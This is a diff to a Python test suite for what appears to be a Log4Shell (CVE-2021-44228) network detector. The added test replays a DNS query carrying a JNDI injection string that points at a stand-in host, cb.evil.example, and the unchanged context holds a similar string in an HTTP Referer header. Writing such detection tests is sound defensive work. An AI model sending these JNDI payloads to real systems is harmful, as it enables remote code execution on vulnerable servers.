@@ -63,6 +63,14 @@ def test_every_scheme_in_a_udp_datagram_is_attempt_other(tmp_path, scheme, port)
     assert (notices[0].extra["lookup.scheme"], notices[0].extra["lookup.port"]) == (scheme, port)
 
 
+def test_lookup_in_a_dns_query_name_is_caught_with_its_host(tmp_path):
+    query = wire.dns_query("${jndi:ldap://cb.evil.example:1389/a}")
+    path = Capture().udp(ATTACKER, VICTIM, 5353, 53, [(True, query)]).write(tmp_path / "d.pcap")
+    [notice] = replay(path)
+    assert (notice.note, notice.extra["lookup.host"], notice.extra["lookup.port"]) == (
+        "CVE_2021_44228::LOG4J_ATTEMPT_OTHER", "cb.evil.example", 1389)
+
+
 @pytest.mark.parametrize(("scheme", "port"), SCHEMES)
 def test_every_scheme_in_a_header_names_host_and_port(tmp_path, scheme, port):
     notices = attack(tmp_path, http(f"Referer: ${{jndi:{scheme}://cb.evil.example/o}}\r\n"))
